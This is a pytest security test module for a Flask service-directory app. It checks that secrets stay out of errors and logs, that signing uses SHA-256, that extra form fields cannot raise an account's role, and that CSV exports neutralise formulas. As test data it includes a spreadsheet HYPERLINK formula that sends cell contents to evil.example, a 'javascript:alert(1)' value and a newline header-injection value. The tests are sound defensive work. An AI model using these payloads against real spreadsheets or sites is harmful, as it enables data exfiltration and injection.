"""What a tester tries first and no other test does: secrets in errors, fields that no form has, formulas in tables."""

import csv
import hashlib
import io
import json
import logging
import re
from collections.abc import Callable, Iterator
from datetime import UTC, datetime, timedelta

import pytest
from flask import Flask
from flask import session as flask_session
from flask.testing import FlaskClient
from flask_wtf.csrf import validate_csrf
from itsdangerous import URLSafeTimedSerializer
from wtforms.validators import ValidationError

from hub_finder import create_app
from hub_finder.config import load
from hub_finder.extensions import db
from hub_finder.logs import JsonLines
from hub_finder.models.accounts import Account, Role
from tests.conftest import FAIRSHIRE
from tests.factories import Catalogue
from tests.signing_in import sign_in, token_of

FORMULA = '=HYPERLINK("http://evil.example?"&A1,"Click")'
SECRET = "correct-horse-battery-staple-0123456789"  # noqa: S105
NOTIFY_ID = "f33517ff-2a88-4f6e-b855-c550268ce08a"


# ---- /.well-known/security.txt


@pytest.fixture
def site(make_database: Callable[[str, str], str]) -> Callable[..., FlaskClient]:
    def make(**settings: str) -> FlaskClient:
        address = make_database("sqlite", "security")
        app = create_app({"TESTING": True, "DATABASE_URL": address, "HUB_AREA": str(FAIRSHIRE), **settings})
        return app.test_client()

    return make


def test_nobody_is_named_to_tell_where_nobody_is_set(client: FlaskClient) -> None:
    assert client.get("/.well-known/security.txt").status_code == 404


def test_file_says_whom_to_tell_and_is_not_out_of_date(site: Callable[..., FlaskClient]) -> None:
    client = site(HUB_SECURITY_CONTACT="mailto:holes@fairshire.example", HUB_BASE_URL="https://hubs.example")

    response = client.get("/.well-known/security.txt")

    fields = dict(line.split(": ", 1) for line in response.get_data(as_text=True).splitlines())
    ends = datetime.fromisoformat(fields["Expires"])
    assert response.mimetype == "text/plain"
    assert fields["Contact"] == "mailto:holes@fairshire.example"
    assert fields["Canonical"] == "https://hubs.example/.well-known/security.txt"
    assert timedelta(days=90) < ends - datetime.now(UTC) < timedelta(days=365)


@pytest.mark.parametrize(
    "wrong",
    ["holes@fairshire.example", "http://hubs.example", "mailto:", "mailto:a@b\nPolicy: x", "javascript:alert(1)"],
)
def test_contact_that_is_none_is_refused(wrong: str) -> None:
    with pytest.raises(ValueError, match="HUB_SECURITY_CONTACT"):
        load({"HUB_SECURITY_CONTACT": wrong})


# ---- refusals


@pytest.fixture
def log(app: Flask) -> Iterator[io.StringIO]:
    """What HUB_LOG_FORMAT=json writes."""
    out = io.StringIO()
    handler = logging.StreamHandler(out)
    handler.setFormatter(JsonLines())
    app.logger.addHandler(handler)
    yield out
    app.logger.removeHandler(handler)


def test_who_is_refused_is_told_by_the_number_of_their_account(client: FlaskClient, log: io.StringIO) -> None:
    sign_in(client, Role.PROVIDER)
    with client.session_transaction() as session:
        number = session["account"]

    paths = ("/moderation/people/7?q=my-baby-cries", "/moderation/listings/sleep/edit", "/accounts")
    answers = [client.get(path) for path in paths]

    lines = [json.loads(line) for line in log.getvalue().splitlines()]
    assert [answer.status_code for answer in answers] == [403, 403, 200]
    assert [(line["level"], line["account"]) for line in lines] == [("warning", number)] * 2
    assert [line["id"] for line in lines] == [answer.headers["X-Request-ID"] for answer in answers[:2]]
    assert lines[0]["message"] == f"Account {number} was refused GET moderation.show_person, request {lines[0]['id']}"
    assert lines[0]["route"] == "/moderation/people/<int:number>"
    assert not re.search("baby|sleep|Robin|@", log.getvalue())


def test_who_is_not_signed_in_leaves_no_line(client: FlaskClient, log: io.StringIO) -> None:
    page = client.get("/accounts/sign-in")

    answer = client.post("/moderation/listings/sleep/edit", data={"csrf_token": token_of(page)})

    assert answer.status_code == 403
    assert log.getvalue() == ""


# ---- signatures


def signer(client: FlaskClient, salt: str, method: str, derivation: str) -> URLSafeTimedSerializer:
    how = {"digest_method": getattr(hashlib, method), "key_derivation": derivation}
    return URLSafeTimedSerializer(client.application.config["SECRET_KEY"], salt=salt, signer_kwargs=how)


def test_what_is_signed_is_signed_with_sha_256(client: FlaskClient) -> None:
    token = token_of(sign_in(client).get("/accounts"))
    cookie = client.get_cookie("session")
    assert cookie

    session = signer(client, "cookie-session", "sha256", "hmac").loads(cookie.value)

    assert signer(client, "wtf-csrf-token", "sha256", "django-concat").loads(token) == session["csrf_token"]


def test_cookie_that_is_signed_with_sha_1_is_none_of_ours(client: FlaskClient) -> None:
    with sign_in(client).session_transaction() as session:
        held = dict(session)
    for method, status in (("sha256", 200), ("sha1", 302)):
        client.set_cookie("session", str(signer(client, "cookie-session", method, "hmac").dumps(held)))

        assert client.get("/accounts").status_code == status


def test_token_that_is_signed_with_sha_1_is_none_of_ours(client: FlaskClient) -> None:
    with client.application.test_request_context():
        flask_session["csrf_token"] = "a" * 40
        good, bad = (
            signer(client, "wtf-csrf-token", method, "django-concat").dumps("a" * 40) for method in ("sha256", "sha1")
        )

        validate_csrf(good)
        with pytest.raises(ValidationError):
            validate_csrf(bad)


# ---- secrets


@pytest.mark.parametrize(
    "settings",
    [
        {"DATABASE_URL": f"hub:{SECRET}@host"},
        {"DATABASE_URL": f"postgresql://hub:{SECRET}@127.0.0.1:port/hub"},
        {"HUB_MAIL_URL": f"smtp://hub:{SECRET}@127.0.0.1:port", "HUB_MAIL_FROM": "a@b.example"},
        {"HUB_MAIL_URL": f"smtp//hub:{SECRET}@127.0.0.1"},
        {"HUB_MAIL_URL": f"smtp://hub:{SECRET}@[half", "HUB_MAIL_FROM": "a@b.example"},
        {"HUB_MAIL_URL": f"notify://{NOTIFY_ID}", "HUB_NOTIFY_KEY": SECRET},
        {"HUB_OIDC_CLIENT_SECRET": SECRET},
        {"HUB_REDIS_URL": f"redis://:{SECRET}@127.0.0.1:port/0"},
        {"HUB_REDIS_URL": f"redi//:{SECRET}@127.0.0.1"},
    ],
    ids=lambda settings: " ".join(settings),
)
def test_wrong_setting_is_told_without_its_secret(
    settings: dict[str, str], caplog: pytest.LogCaptureFixture, tmp_path: object
) -> None:
    """Also not in what the error was raised from, which a log shows as well."""
    with pytest.raises(Exception, match=r".") as raised:
        create_app({"DATABASE_URL": f"sqlite:///{tmp_path}/x.sqlite", **settings})

    told = [caplog.text]
    error: BaseException | None = raised.value
    while error is not None:
        told.append(str(error))
        error = error.__cause__ or (None if error.__suppress_context__ else error.__context__)
    assert SECRET not in " ".join(told)


def test_database_that_refuses_is_told_without_its_password(
    make_database: Callable[[str, str], str], caplog: pytest.LogCaptureFixture
) -> None:
    app = create_app(
        {"SECRET_KEY": SECRET, "DATABASE_URL": f"postgresql://hub:{SECRET}@127.0.0.1:9/hub", "HUB_AREA": str(FAIRSHIRE)}
    )

    with caplog.at_level(logging.DEBUG):
        page = app.test_client().get("/needs")

    assert page.status_code == 503
    assert "OperationalError" in caplog.text
    assert SECRET not in caplog.text + page.get_data(as_text=True)


# ---- fields that no form has


@pytest.mark.parametrize("role", [Role.PROVIDER, Role.MODERATOR])
def test_account_cannot_be_made_more_by_fields_that_the_page_does_not_have(
    app: Flask, client: FlaskClient, role: Role
) -> None:
    """Every form that someone may send, with every column of an account beside what it asks."""
    sign_in(client, role, name="Robin Moss")
    before = accounts(app)
    columns = {column.name: "1" for column in Account.__table__.columns} | {"role": "administrator", "is_active": "1"}
    posts = [
        rule.rule
        for rule in app.url_map.iter_rules()
        if "POST" in (rule.methods or ()) and not rule.arguments and rule.endpoint != "accounts.sign_out"
    ]

    token = token_of(client.get("/accounts"))
    for path in posts:
        client.post(path, data={**columns, "csrf_token": token})

    assert len(posts) > 10
    assert [row for row in accounts(app) if row in before] == before
    assert not [row for row in accounts(app) if row[1] == Role.ADMINISTRATOR]


def accounts(app: Flask) -> list[tuple[str, str, str]]:
    with app.app_context():
        db.session.rollback()
        return [(one.email, one.role, one.name) for one in db.session.scalars(db.select(Account).order_by(Account.id))]


# ---- tables


def test_table_of_listings_holds_no_formula_and_comes_back_as_it_was(
    app: Flask, client: FlaskClient, catalogue: Catalogue, tmp_path: object
) -> None:
    catalogue.add(id="formula", name=FORMULA, phone="+44 1305 251010", latitude="52.1", longitude="-1.2")

    for address in ("/services.csv", "/services.csv?q=click"):
        [row] = csv.DictReader(io.StringIO(client.get(address).get_data(as_text=True)))

        assert row["name"] == f"'{FORMULA}"
        assert (row["phone"], row["longitude"]) == ("+44 1305 251010", "-1.2")


# ---- other sites


@pytest.mark.parametrize(
    ("address", "policy"),
    [("/", "same-origin"), ("/needs", "same-origin"), ("/api/needs", None)],
)
def test_other_sites_may_load_nothing_but_what_is_for_programs(
    client: FlaskClient, address: str, policy: str | None
) -> None:
    response = client.get(address)

    assert response.headers.get("Cross-Origin-Resource-Policy") == policy
    assert response.headers["Cross-Origin-Opener-Policy"] == "same-origin"
